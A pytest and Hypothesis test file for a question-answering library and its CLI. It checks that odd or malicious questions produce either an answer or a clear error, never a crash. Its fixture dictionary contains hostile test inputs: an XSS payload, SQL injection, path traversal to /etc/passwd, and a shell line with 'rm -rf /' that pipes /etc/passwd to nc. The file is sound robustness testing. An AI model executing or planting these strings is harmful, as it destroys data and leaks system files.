"""Bad input through the library and the CLI: a clear answer or message, never a crash or a hang."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from datetime import timedelta

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import CORPUS, run_cli
from cppqa.errors import QuestionError
from cppqa.records import Answer

LIMIT = 1000
ILLEGAL = "When was the party declared illegal?"

#: Inputs that must come back as an ``Answer`` (most of them abstaining), never an error.
ANSWERED = {
    "control characters": "When\x00 was the\x07 party\x1b[31m declared\x7f illegal?",
    "NUL bytes": "\x00\x00When was the party declared illegal?\x00",
    "invalid surrogates": "When was \ud800 the party \udfff declared illegal?",
    "escaped bytes": "When was the party \udcff\udcfe banned?",
    "Urdu (right to left)": "پارٹی کب غیر قانونی قرار دی گئی؟",
    "Urdu full stop": "پارٹی کب بنی۔",
    "bidi marks": "\u202eWhen was the party declared illegal?\u202c",
    "emoji": "When was the party 🎉 declared illegal? 👍🏽",
    "emoji sequence": "Who founded the party 👨‍👩‍👧?",
    "HTML and script": "<img src=x onerror=alert(1)>",
    "script tag": "<script>alert('x')</script> who is the general secretary?",
    "Markdown": "[click me](http://evil.example) ![x](http://evil.example/x.png) **bold**",
    "SQL": "'; DROP TABLE passages; -- OR 1=1",
    "shell": "$(rm -rf /); `cat /etc/passwd` | nc evil 80 && echo pwned",
    "format string": "{0.__class__} %s %n {question!r}",
    "path": "../../../../etc/passwd",
    "exactly at the limit": ("party " * 200)[:LIMIT],
    "many distinct words at the limit": " ".join(f"w{n}" for n in range(250))[:LIMIT],
}

#: Inputs that must raise ``QuestionError`` with a message containing the given text.
REFUSED = {
    "empty": ("", "empty"),
    "whitespace": (" \t\n\r\u3000\u00a0 ", "empty"),
    "only control characters": ("\x00\x01\x02\x7f", "empty"),
    "only format characters": ("\u200f\u200e\u200b", "empty"),
    "100,000 characters": ("a" * 100_000, "1,000"),
    "one over the limit": ("b" * (LIMIT + 1), "1,000"),
    "punctuation": ("?!...;:--()[]", "no words"),
    "only emoji": ("😀🎉", "no words"),
}


def check_answer(answer: Answer) -> None:
    """What every answer must satisfy, whatever the input."""
    texts = {p.name: p.read_text(encoding="utf-8") for p in CORPUS.glob("*.txt")}
    assert isinstance(answer, Answer)
    assert 0.0 <= answer.confidence <= 1.0
    assert len(answer.question) <= LIMIT
    # Everything in an answer can be printed and sent as UTF-8 JSON.
    json.dumps(answer.to_json(), ensure_ascii=False).encode("utf-8")
    for source in answer.sources:
        p = source.passage
        assert texts[p.doc][p.start : p.end] == p.text
    if answer.text is not None:
        assert answer.sources and answer.start is not None
        first = answer.sources[0].passage
        assert first.start <= answer.start and answer.end is not None and answer.end <= first.end
        assert texts[first.doc][answer.start : answer.end] == answer.text


@pytest.mark.slow
@pytest.mark.parametrize("question", list(ANSWERED.values()), ids=list(ANSWERED))
def test_odd_input_gets_an_answer(qa, question: str) -> None:
    check_answer(qa.ask(question))


@pytest.mark.slow
@pytest.mark.parametrize(("question", "message"), list(REFUSED.values()), ids=list(REFUSED))
def test_unaskable_input_is_refused_clearly(qa, question: str, message: str) -> None:
    with pytest.raises(QuestionError, match=message) as caught:
        qa.ask(question)
    str(caught.value).encode("utf-8")


@pytest.mark.slow
def test_control_characters_are_cleaned_not_fatal(qa) -> None:
    clean = qa.ask(ILLEGAL)
    dirty = qa.ask(ANSWERED["NUL bytes"])
    assert "\x00" not in dirty.question and "\x00" not in dirty.query
    assert dirty.text == clean.text == "1954"


@pytest.mark.slow
def test_the_length_limit_message_states_the_limit(qa) -> None:
    with pytest.raises(QuestionError) as caught:
        qa.ask("x" * 100_000)
    assert "100,000" in str(caught.value) and "1,000" in str(caught.value)


@pytest.mark.slow
def test_html_is_returned_as_text_not_markup(qa) -> None:
    answer = qa.ask(ANSWERED["HTML and script"])
    assert answer.question == ANSWERED["HTML and script"]
    assert answer.text is None  # the corpus has no answer to a tag


@pytest.mark.slow
def test_a_question_at_the_limit_costs_about_as_much_as_a_short_one(qa) -> None:
    """Bounded time, as a ratio: the longest allowed question is not pathologically slow."""

    def cost(question: str) -> float:
        best = float("inf")
        for _ in range(3):
            started = time.perf_counter()
            qa.ask(question)
            best = min(best, time.perf_counter() - started)
        return best

    short = cost(ILLEGAL)
    long = cost(ANSWERED["many distinct words at the limit"])
    assert long < 50 * short + 0.05, (short, long)


#: Arbitrary text, weighted towards the awkward: control characters, surrogates,
#: right-to-left scripts, emoji, markup, and lengths around the limit.
AWKWARD = st.sampled_from(
    [
        *("\x00", "\ud800", "\udfff", "\u202e", "\u200c", "\n"),
        *("۔", "؟", "ی", "😀", "👨‍👩‍👧", "<", ">", "&", "`", "$("),
    ]
)
QUESTIONS = st.one_of(
    st.text(),
    st.text(alphabet=st.characters(codec=None), max_size=200),
    st.lists(st.one_of(AWKWARD, st.sampled_from(["party", "1954", "Sindh", "who", "when"]))).map(
        " ".join
    ),
    st.text(min_size=LIMIT - 5, max_size=LIMIT + 5),
    st.builds(lambda s, q: s + q, st.text(max_size=40), st.just(ILLEGAL)),
)


@pytest.mark.slow
@settings(
    max_examples=60,
    deadline=timedelta(seconds=10),  # generous: a normal ask takes well under a second
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(question=QUESTIONS)
def test_any_text_gives_an_answer_or_a_question_error(qa, question: str) -> None:
    try:
        answer = qa.ask(question)
    except QuestionError as exc:
        assert str(exc)
        str(exc).encode("utf-8")
        return
    check_answer(answer)


@pytest.mark.slow
@given(question=QUESTIONS)
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_validate_is_idempotent(qa, question: str) -> None:
    try:
        cleaned = qa.validate(question)
    except QuestionError:
        return
    assert qa.validate(cleaned) == cleaned
    assert len(cleaned) <= LIMIT
    cleaned.encode("utf-8")


# The CLI: few processes, each loads the model once.


def test_cli_empty_question_is_an_error_without_loading_anything() -> None:
    result = run_cli("ask", "   ")
    assert result.returncode == 2
    assert result.stderr.startswith("cppqa: error: the question is empty")
    assert "Traceback" not in result.stderr and not result.stdout


@pytest.mark.slow
@pytest.mark.parametrize(
    ("question", "message"),
    [("x" * 100_000, "the limit is 1,000")],
    ids=["too long"],
)
def test_cli_validation_errors_exit_2(question: str, message: str) -> None:
    result = run_cli("ask", "--no-rebuild", question)
    assert result.returncode == 2, result.stderr
    assert result.stderr.startswith("cppqa: error: ") and message in result.stderr
    assert "Traceback" not in result.stderr and not result.stdout


@pytest.mark.slow
def test_cli_stdin_answers_every_line_of_bad_input() -> None:
    """One JSON object per line, answer or error, in order; invalid UTF-8 bytes included."""
    lines = [
        *(q for name, q in ANSWERED.items() if "surrogate" not in name and "escaped" not in name),
        *(q for q, _ in REFUSED.values() if q.strip() and "\n" not in q and "\r" not in q),
        ILLEGAL,
    ]
    data = "\n".join(lines).encode("utf-8") + b"\nWhen was the party \xff\xfe banned?\n"
    result = subprocess.run(
        [sys.executable, "-m", "cppqa", "ask", "--json", "--no-rebuild", "-"],
        input=data,
        capture_output=True,
        timeout=300,
        env={**os.environ, "HF_HUB_OFFLINE": "1"},
    )
    assert b"Traceback" not in result.stderr, result.stderr.decode("utf-8", "replace")
    out = [json.loads(line) for line in result.stdout.decode("utf-8", "replace").splitlines()]
    # NUL/control-only lines count as non-blank to the CLI, so every line gets one object.
    asked = [q for q in lines if q.strip()] + ["bytes"]
    assert len(out) == len(asked)
    errors = [o for o in out if "error" in o]
    assert len(errors) == sum(1 for q, _ in REFUSED.values() if q.strip() and q in lines)
    assert result.returncode == 1  # some lines were refused
    assert out[len(lines) - 1]["answer"] == "1954"
